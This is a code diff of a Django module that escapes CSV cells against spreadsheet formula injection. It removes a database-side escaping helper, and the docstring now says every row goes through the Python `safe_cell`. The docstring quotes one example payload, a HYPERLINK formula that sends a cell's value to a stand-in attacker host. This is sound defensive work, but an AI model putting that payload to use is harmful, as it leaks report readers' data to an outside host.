@@ -4,18 +4,12 @@ A spreadsheet reads a cell that begins with `=`, `+`, `-`, `@`, a tab or a carri
 name such as `=HYPERLINK("http://evil.example/?x="&A1,"click")` would become a link in a partner admin's report.
 Such a cell is written with a single quote in front, as OWASP advises: the spreadsheet shows it as text.
 
-Every CSV certlink writes goes through `safe_cell`. PostgreSQL's COPY writes the skills report's rows itself
-(partners.report_csv), and `safe_cell_sql` is the same rule as a database expression, built from the same prefixes;
-a test holds that both writers write the same bytes.
+Every CSV certlink writes goes through `safe_cell`, on every database (partners.report_csv).
 """
 
 from __future__ import annotations
 
 from collections.abc import Iterable
-
-from django.db.models import Case, CharField, Expression, Value, When
-from django.db.models.functions import Concat, Left
-from django.db.models.lookups import In
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 QUOTE = "'"
@@ -28,16 +22,6 @@ def safe_cell(value: str) -> str:
 
 def safe_row(values: Iterable[str]) -> list[str]:
     return [safe_cell(value) for value in values]
-
-
-def safe_cell_sql(expression: Expression) -> Case:
-    """`safe_cell` for a database that writes the CSV itself; NULL stays NULL."""
-    text = CharField()
-    return Case(
-        When(In(Left(expression, 1), list(FORMULA_STARTS)), then=Concat(Value(QUOTE), expression, output_field=text)),
-        default=expression,
-        output_field=text,
-    )
 
 
 class Echo:
